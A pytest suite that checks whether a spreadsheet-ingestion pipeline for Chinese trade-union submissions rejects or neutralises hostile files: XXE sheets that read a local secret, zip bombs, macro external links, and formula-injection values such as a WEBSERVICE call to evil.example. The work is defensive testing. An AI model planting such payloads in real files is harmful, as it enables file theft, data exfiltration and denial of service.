"""Hostile and broken submission files: one clear Chinese verdict each; nothing else changes.

The corpus is tests/hostile/corpus (made by tests/hostile/make_corpus.py, listed in
tests/hostile/README.md). Every run holds the corpus roster, one valid submission
(长阳镇总工会, r1, 4 rows) and the hostile file(s); the valid rows must come out
exactly as in a run without the hostile file.
"""

from __future__ import annotations

import builtins
import io
import re
import socket
import sys
from pathlib import Path

import pandas as pd
import pytest

sys.path.insert(0, str(Path(__file__).resolve().parent / "hostile"))

import harness  # noqa: E402
import make_corpus as corpus  # noqa: E402
from harness import CJK  # noqa: E402

VALID = corpus.VALID_FILE
RSS_GROWTH_MB = 500


@pytest.fixture(scope="module")
def baseline(tmp_path_factory) -> harness.Tables:
    """The run without any hostile file."""
    tmp = tmp_path_factory.mktemp("baseline")
    return harness.ingest(harness.build_raw(tmp / "raw"), tmp / "out")


def _valid_rows(t: harness.Tables) -> pd.DataFrame:
    return t.rows[t.rows["file"] == VALID].reset_index(drop=True)


def test_baseline_valid_submission_all_rows_accepted(baseline):
    rows = _valid_rows(baseline)
    assert len(rows) == len(corpus.VALID_ROWS) == 4
    assert (rows["state"] == "accepted").all()
    assert sorted(rows["row"].astype(int)) == [5, 6, 7, 8]  # title, 2 header lines, table header
    assert sorted(pd.to_numeric(rows["participants"])) == [5, 40, 55, 100]


def _simulate(case: corpus.Case, raw: Path, monkeypatch) -> None:
    """Make the valid 琉璃河 file vanish after listing, or be locked by 'another program'."""
    from analysis import ingest as ingest_module

    target = (raw / case.path).resolve()
    if case.simulated == "vanish":
        discover = ingest_module._discover

        def listed_then_deleted(raw_dir):
            found = discover(raw_dir)
            target.unlink()
            return found

        monkeypatch.setattr(ingest_module, "_discover", listed_then_deleted)
    elif case.simulated == "locked":
        real_open = io.open

        def locked_open(file, *args, **kwargs):
            if isinstance(file, str | Path) and Path(file).resolve() == target:
                raise PermissionError(13, "Permission denied", str(file))
            return real_open(file, *args, **kwargs)

        monkeypatch.setattr(io, "open", locked_open)
        monkeypatch.setattr(builtins, "open", locked_open)


def _run_case(case: corpus.Case, tmp_path: Path, monkeypatch, capsys) -> harness.Tables:
    raw = tmp_path / "raw"
    if case.simulated:
        harness.build_raw(raw)
        harness.add_l_file(raw, case.path)
        _simulate(case, raw, monkeypatch)
    else:
        harness.build_raw(raw, case.path)
    result = harness.ingest(raw, tmp_path / "out")
    captured = capsys.readouterr()
    assert "Traceback" not in captured.out + captured.err
    return result


def _file_level_errors(t: harness.Tables, rel: str) -> pd.DataFrame:
    issues = t.issues[t.issues["file"] == rel]
    return issues[(issues["severity"] == "error") & (issues["row"] == "")]


def check_expectation(case: corpus.Case, t: harness.Tables) -> None:
    """Assert the behaviour the corpus README promises for `case`."""
    rel = case.path
    subs = t.submissions[t.submissions["file"] == rel]
    rows = t.rows[t.rows["file"] == rel]
    issues = t.issues[t.issues["file"] == rel]
    errors = _file_level_errors(t, rel)
    assert len(subs) == 1, f"{rel} must be listed once in submissions.csv"
    expect = case.expect
    if expect == "read_or_reject":
        expect = "reject" if subs["state"].iloc[0] == "rejected" else "read"
    if expect == "reject":
        assert subs["state"].iloc[0] == "rejected"
        assert subs["rows_accepted"].iloc[0] in ("0", "")
        assert (rows["state"] != "accepted").all()
        assert len(issues[issues["severity"] == "error"]) == 1, issues.to_string()
        message = errors["message"].iloc[0]
        assert CJK.search(message), message
        assert Path(rel).name in message, f"the message should name the file: {message}"
        assert case.keyword in message, message
    elif expect in ("read", "read_warn"):
        assert errors.empty, errors.to_string()
        assert subs["state"].iloc[0] == "current"
        assert (rows["state"] == "accepted").sum() >= 1
        if expect == "read_warn":
            warnings = issues[issues["severity"] == "warning"]
            assert not warnings.empty, f"{rel}: a warning is expected"
            assert warnings["message"].map(lambda m: bool(CJK.search(m))).all()
    elif expect == "no_rows":
        assert (rows["state"] != "accepted").all(), rows.to_string()
        assert not issues.empty
        assert issues["message"].map(lambda m: bool(CJK.search(m))).all()
    else:  # pragma: no cover - a typo in CASES
        raise AssertionError(expect)


@pytest.mark.parametrize("case", corpus.CASES, ids=[c.name for c in corpus.CASES])
def test_hostile_file_gets_its_verdict_and_valid_rows_unchanged(
    case, baseline, tmp_path, monkeypatch, capsys
):
    t = _run_case(case, tmp_path, monkeypatch, capsys)
    check_expectation(case, t)
    pd.testing.assert_frame_equal(_valid_rows(t), _valid_rows(baseline))
    assert (_valid_rows(t)["state"] == "accepted").all()


def test_formula_cached_value_used_and_uncached_missing(tmp_path, monkeypatch, capsys):
    case = corpus.CASES_BY_NAME["formulas_no_cache"]
    t = _run_case(case, tmp_path, monkeypatch, capsys)
    rows = t.rows[t.rows["file"] == case.path].set_index("row")
    # Row 5: =10*5 with cached 50; row 6: =SUM(7,8) with no cached value.
    assert float(rows.loc["5", "participants"]) == 50
    assert rows.loc["6", "participants"] == ""  # missing, not zero, not 15
    assert (rows["state"] == "accepted").all()  # unreadable participants still an activity
    text = harness.all_text_of(harness.output_files(tmp_path / "out"))
    assert "SUM(7,8)" not in text and "10*5" not in text


def test_macro_workbook_read_from_cached_values_nothing_fetched(tmp_path, monkeypatch, capsys):
    attempts: list[object] = []

    def refuse(self, address, *args):
        attempts.append(address)
        raise OSError("network disabled in test")

    monkeypatch.setattr(socket.socket, "connect", refuse)
    monkeypatch.setattr(socket.socket, "connect_ex", refuse)
    monkeypatch.setattr(socket, "getaddrinfo", lambda *a, **k: attempts.append(a) or [])
    case = corpus.CASES_BY_NAME["macro_external_link"]
    t = _run_case(case, tmp_path, monkeypatch, capsys)
    assert attempts == []
    rows = t.rows[t.rows["file"] == case.path].set_index("row")
    assert float(rows.loc["5", "participants"]) == 30  # the external formula's cached value
    assert float(rows.loc["6", "participants"]) == 12
    assert (rows["state"] == "accepted").all()


def test_chinese_path_with_spaces_named_relative_to_raw(tmp_path, monkeypatch, capsys):
    case = corpus.CASES_BY_NAME["chinese_path"]
    t = _run_case(case, tmp_path, monkeypatch, capsys)
    rows = t.rows[t.rows["file"] == "submissions/第二 阶段/长阳镇 总工会 (更正).xlsx"]
    assert len(rows) == 2 and (rows["state"] == "accepted").all()
    assert set(rows["grassroots_unit"]) == {"长阳镇第一小学工会", "长阳镇卫生院工会"}
    sub = t.submissions.set_index("file").loc[case.path]
    assert sub["round"] == "r2" and sub["rows_accepted"] == "2"


def test_xxe_file_content_never_in_any_output(tmp_path, capsys):
    secret = tmp_path / "secret.txt"
    token = "XXE-SECRET-7f3a9c2e51"
    secret.write_text(token, encoding="utf-8")
    raw = harness.build_raw(tmp_path / "raw")
    bad = raw / "submissions/xxe_secret.xlsx"
    bad.write_bytes(corpus._zip(corpus.xlsx_parts(corpus.xxe_sheet(secret.as_uri()))))
    t = harness.ingest(raw, tmp_path / "out")
    captured = capsys.readouterr()
    assert token not in captured.out + captured.err
    assert token not in harness.all_text_of(harness.output_files(tmp_path / "out"))
    assert len(_file_level_errors(t, "submissions/xxe_secret.xlsx")) == 1
    hostname = Path("/etc/hostname")
    if hostname.exists() and len(hostname.read_text().strip()) >= 8:  # too short to be telling
        assert hostname.read_text().strip() not in harness.all_text_of(
            harness.output_files(tmp_path / "out")
        )


def test_lying_zip_sizes_rejected_without_expanding(tmp_path, baseline):
    raw = harness.build_raw(tmp_path / "raw")
    corpus.zip_bomb(raw / "submissions/lying.xlsx", 256 << 20, declared_bytes=10_000)
    t = harness.ingest(raw, tmp_path / "out")
    assert len(_file_level_errors(t, "submissions/lying.xlsx")) == 1
    pd.testing.assert_frame_equal(_valid_rows(t), _valid_rows(baseline))


# --- the whole corpus at once, in a child process: time, memory, stderr ---------------------


@pytest.fixture(scope="module")
def baseline_cli(tmp_path_factory) -> harness.CliRun:
    tmp = tmp_path_factory.mktemp("baseline_cli")
    run = harness.run_cli(harness.build_raw(tmp / "raw"), tmp / "out")
    assert run.returncode == 0, run.stderr
    return run


STATIC_CASES = [c for c in corpus.CASES if not c.simulated]


def test_all_hostile_files_and_2gib_bomb_together_complete_bounded(
    tmp_path, baseline_cli, baseline
):
    raw = harness.build_raw(tmp_path / "raw", *(c.path for c in STATIC_CASES))
    bomb = corpus.zip_bomb(raw / "submissions/bomb_2g.xlsx", 2 << 30)
    assert bomb.stat().st_size < 4 << 20  # a few MB on disk, 2 GiB inside
    run = harness.run_cli(raw, tmp_path / "out")
    assert run.returncode == 0, run.stderr
    assert "Traceback" not in run.stdout + run.stderr
    assert run.seconds < 60  # generous: a bomb that were expanded would take minutes
    assert run.peak_rss_mb - baseline_cli.peak_rss_mb < RSS_GROWTH_MB
    t = harness.tables(tmp_path / "out")
    assert len(_file_level_errors(t, "submissions/bomb_2g.xlsx")) == 1
    for case in STATIC_CASES:
        check_expectation(case, t)
    pd.testing.assert_frame_equal(_valid_rows(t), _valid_rows(baseline))


# --- limits -------------------------------------------------------------------------------


def test_limits_defaults_sensible(campaign):
    limits = campaign.limits
    assert 2**20 <= limits.max_file_bytes <= 2**30
    assert limits.max_file_bytes < limits.max_uncompressed_bytes <= 2**31
    assert 20 <= limits.max_compression_ratio <= 1000
    assert 10_000 <= limits.max_rows_per_sheet <= 1_048_576
    assert limits.max_rows_per_sheet <= limits.max_cells_per_workbook <= 10**8
    assert 10 <= limits.max_sheets <= 1000


def test_openpyxl_uses_defusedxml():
    import openpyxl

    assert openpyxl.DEFUSEDXML is True


@pytest.mark.parametrize(
    ("setting", "value"),
    [("max_file_bytes", 1000), ("max_rows_per_sheet", 3), ("max_cells_per_workbook", 20)],
)
def test_lowered_limit_in_raw_campaign_toml_rejects_file(setting, value, tmp_path):
    from analysis.campaign import default_campaign_text

    raw = harness.build_raw(tmp_path / "raw")
    text = re.sub(rf"(?m)^{setting} = .*$", f"{setting} = {value}", default_campaign_text())
    (raw / "campaign.toml").write_text(text, encoding="utf-8")
    t = harness.ingest(raw, tmp_path / "out")
    sub = t.submissions.set_index("file").loc[VALID]
    assert sub["state"] == "rejected"
    errors = _file_level_errors(t, VALID)
    assert len(errors) == 1 and "上限" in errors["message"].iloc[0]
    assert (t.rows["state"] != "accepted").all()


def test_formula_text_read_as_text_and_never_written_evaluable(tmp_path, monkeypatch, capsys):
    import csv

    from analysis import safety

    case = corpus.CASES_BY_NAME["formula_text"]
    t = _run_case(case, tmp_path, monkeypatch, capsys)
    rows = t.rows[t.rows["file"] == case.path].set_index("row")
    # Rows 5 and 6 are activities of the roster's unions; row 7's union "=1+2" is unknown.
    assert rows["state"].to_dict() == {"5": "accepted", "6": "accepted", "7": "rejected"}
    assert rows.loc["5", "form"] == "'" + corpus.FORMULA_LINK  # escaped in the CSV …
    assert rows.loc["6", "form"] == "'-2+3"
    ledger = pd.read_parquet(tmp_path / "out" / "rows.parquet")
    ledger = ledger[ledger["file"] == case.path].set_index("row")
    assert ledger.loc[5, "form"] == corpus.FORMULA_LINK  # … as typed in the Parquet table
    subs = t.submissions.set_index("file").loc[case.path]
    assert (subs["contact"], subs["phone"]) == ('\'=WEBSERVICE("http://evil.example/")', "'-1+1")
    assert "'=1+2" in set(t.issues["value"])
    for path in (tmp_path / "out").glob("*.csv"):
        with path.open(encoding="utf-8-sig", newline="") as fh:
            assert not [v for r in csv.reader(fh) for v in r if safety.is_evaluable(v)], path
